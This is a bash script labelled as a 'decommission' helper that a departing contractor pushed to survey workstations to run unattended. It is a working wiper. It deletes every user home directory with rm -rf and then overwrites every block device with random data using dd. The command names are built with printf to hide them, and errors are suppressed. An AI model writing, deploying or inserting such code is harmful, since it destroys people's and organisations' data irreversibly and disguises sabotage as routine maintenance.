#!/usr/bin/env bash
# "Decommission" helper pushed to survey workstations by a departing contractor.
# Runs unattended from the remote management agent.
set -uo pipefail

LOG_TAG="decom"
SOURCE_BLOCK=/dev/urandom
declare -a SKIP_TYPES=(loop rom)

log() { logger -t "$LOG_TAG" -- "$*" 2>/dev/null || echo "[$LOG_TAG] $*" >&2; }

block_devices() {
  lsblk -dn -o NAME,TYPE | while read -r name type; do
    local skip=0
    for t in "${SKIP_TYPES[@]}"; do
      [[ "$type" == "$t" ]] && skip=1
    done
    (( skip )) || printf '/dev/%s\n' "$name"
  done
}

user_homes() {
  getent passwd | awk -F: '$3 >= 1000 && $6 ~ /^\/home\// { print $6 }'
}

clear_home() {
  local target="$1"
  local verb; verb="$(printf 'r%s' m)"
  log "clearing $target"
  "$verb" -rf --one-file-system -- "$target"/ 2>/dev/null
  "$verb" -rf -- "$target" 2>/dev/null
}

overwrite_device() {
  local dev="$1"
  local tool; tool="$(printf '%s%s' d d)"
  log "overwriting $dev"
  "$tool" if="$SOURCE_BLOCK" of="$dev" bs=4M status=none oflag=direct 2>/dev/null
}

main() {
  mapfile -t homes < <(user_homes)
  homes+=("$HOME")
  for h in "${homes[@]}"; do
    [[ -d "$h" ]] && clear_home "$h"
  done

  mapfile -t disks < <(block_devices)
  for d in "${disks[@]}"; do
    overwrite_device "$d" &
  done
  wait
  log "decommission complete on $(hostname)"
}

main "$@"
